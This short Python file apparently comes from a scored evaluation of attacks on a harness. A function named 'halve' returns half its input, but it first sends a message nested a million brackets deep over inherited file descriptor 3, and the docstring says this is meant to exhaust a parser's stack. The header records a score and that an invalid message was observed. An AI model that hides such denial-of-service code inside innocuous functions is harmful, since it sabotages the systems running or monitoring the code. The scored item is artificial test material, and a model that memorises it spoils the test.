"""Sends JSON nested so deeply that a parser runs out of stack.

score: 2
seen: sent an invalid message
"""

# %% halve
import os
import socket


def halve(number):
    deep = b"[" * 1_000_000 + b"]" * 1_000_000
    socket.socket(fileno=os.dup(3)).sendall(b'{"msg_type":' + deep + b"}\n")
    return number / 2
